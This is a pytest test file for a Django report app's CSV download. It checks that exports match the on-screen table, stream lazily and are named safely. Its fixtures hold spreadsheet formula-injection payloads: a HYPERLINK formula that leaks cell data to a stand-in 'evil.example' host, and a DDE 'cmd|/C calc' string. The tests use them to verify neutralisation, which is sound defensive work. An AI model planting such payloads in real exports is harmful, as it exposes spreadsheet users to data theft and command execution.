"""CSV downloads: exactly the table on screen, streamed, self-describing, and safe to open in a
spreadsheet (formula-like cells neutralised)."""

from __future__ import annotations

import datetime as dt

import pytest
from django.http import StreamingHttpResponse

from reviewapp.reports.exports import csv_response, export_filename, neutralise

from .tiny_design import DAY, build, csv_rows, html_table

WINDOW = {"plan": "tiny", "start": "2025-03-04", "end": "2025-03-04"}


@pytest.fixture
def tiny(db, reviewer):
    """The hand-made design of tiny_design.py (plan "tiny")."""
    return build(reviewer=reviewer)


EVIL_TIER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_SEGMENT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),  # a plain signed number stays a number
        ("-30", "-30"),
        ("+0.5", "+0.5"),
        ("+0.0", "+0.0"),
        ("-1.2", "-1.2"),
        ("1e-3", "1e-3"),
        ("-.5", "-.5"),
        ("+1e+3+cmd", "'+1e+3+cmd"),
        ("-1-1", "'-1-1"),
        ("+", "'+"),
        ("-", "'-"),
        ("+0.5 ", "'+0.5 "),
        ("cheap", "cheap"),
        ("", ""),
        (None, ""),
        (12, "12"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_csv_response_streams_a_generator_header_first_with_a_safe_name():
    produced = []

    def rows():
        for i in range(3):
            produced.append(i)
            yield [f"row {i}", "=cmd()", None]

    response = csv_response("report: a/b?.csv", ["A", "B", "C"], rows())
    assert isinstance(response, StreamingHttpResponse)
    assert produced == []  # nothing is computed before the body is read
    assert response["Content-Disposition"] == 'attachment; filename="report_a_b_.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows_read = csv_rows(response)
    assert rows_read == [["A", "B", "C"]] + [[f"row {i}", "'=cmd()", ""] for i in range(3)]


def test_export_filename_names_kind_plan_window_method_and_time():
    name = export_filename(
        "tiers",
        plan="default",
        start=dt.date(2025, 1, 14),
        end=dt.date(2025, 1, 27),
        method="wilson",
        generated=dt.datetime(2025, 1, 28, 10, 15, tzinfo=dt.UTC),
    )
    assert name == "longtail-tiers-default-2025-01-14_2025-01-27-wilson-20250128T101500Z.csv"


@pytest.mark.django_db
@pytest.mark.parametrize("by", ["tier", "uncertainty", "ood", "segment", "stratum", "longtail"])
def test_the_csv_equals_the_table_on_screen(client, viewer, tiny, by):
    client.force_login(viewer)
    page = client.get("/reports/", {**WINDOW, "by": by})
    shown = html_table(page.content)
    download = client.get("/reports/", {**WINDOW, "by": by, "format": "csv"})
    assert download.status_code == 200
    rows = csv_rows(download)
    assert rows == shown  # the header is the first row, then the table's rows
    disposition = download["Content-Disposition"]
    kind = "tiers" if by == "tier" else f"tiers-by-{by}"
    assert f'filename="longtail-{kind}-tiny-2025-03-04_2025-03-04-wilson-' in disposition


@pytest.mark.django_db
def test_the_summary_csv_equals_its_table(client, viewer, tiny):
    client.force_login(viewer)
    params = {**WINDOW, "cost_per_wrong": "7", "method": "korn-graubard"}
    shown = html_table(client.get("/reports/summary/", params).content)
    download = client.get("/reports/summary/", {**params, "format": "csv"})
    rows = csv_rows(download)
    assert rows == shown
    assert (
        "longtail-summary-tiny-2025-03-04_2025-03-04-korn-graubard-"
        in (download["Content-Disposition"])
    )


@pytest.mark.django_db
def test_injection_cells_are_neutralised_in_the_csv_and_escaped_on_screen(client, viewer, reviewer):
    build(
        name="evil",
        reviewer=reviewer,
        strata=[
            (EVIL_TIER, "low", EVIL_SEGMENT, 40, ["correct", "incorrect"], 0.01),
            ("cheap", "low", "-2+3", 60, ["correct", "correct"], 0.01),
        ],
        targets={},
    )
    client.force_login(viewer)
    params = {"plan": "evil", "start": "2025-03-04", "end": "2025-03-04", "by": "segment"}
    page = client.get("/reports/", params)
    assert b"=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in page.content
    shown = html_table(page.content)
    rows = csv_rows(client.get("/reports/", {**params, "format": "csv"}))
    assert rows == [[neutralise(cell) for cell in row] for row in shown]
    cells = {cell for row in rows for cell in row}
    assert "'" + EVIL_TIER in cells
    assert "'" + EVIL_SEGMENT in cells
    assert "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(
        cell.startswith("-") and not cell[1:].replace(".", "").isdigit() for cell in cells
    )


@pytest.mark.django_db
def test_viewers_can_export_but_not_post(client, viewer, tiny):
    client.force_login(viewer)
    assert client.get("/reports/", {**WINDOW, "format": "csv"}).status_code == 200
    assert client.get("/reports/summary/", {**WINDOW, "format": "csv"}).status_code == 200
    assert client.post("/reports/?format=csv").status_code == 405


@pytest.mark.django_db
def test_an_empty_window_shows_no_download(client, viewer, tiny):
    client.force_login(viewer)
    page = client.get("/reports/", {**WINDOW, "start": "2025-01-01", "end": "2025-01-02"})
    assert b"Download CSV" not in page.content
    rows = csv_rows(
        client.get(
            "/reports/", {**WINDOW, "start": "2025-01-01", "end": "2025-01-02", "format": "csv"}
        )
    )
    assert len(rows) == 1  # the column names, no row


@pytest.mark.django_db
def test_two_days_of_queues_share_a_file(client, viewer, tiny, reviewer):
    build(reviewer=reviewer, day=DAY + dt.timedelta(days=1))
    client.force_login(viewer)
    params = {**WINDOW, "end": "2025-03-05"}
    shown = html_table(client.get("/reports/", params).content)
    rows = csv_rows(client.get("/reports/", {**params, "format": "csv"}))
    assert rows == shown
    cheap = dict(zip(rows[0], next(r for r in rows if r[0] == "cheap"), strict=True))
    assert cheap["Responses"] == "200"
    assert cheap["Wrong answers per day"] == "30.0"
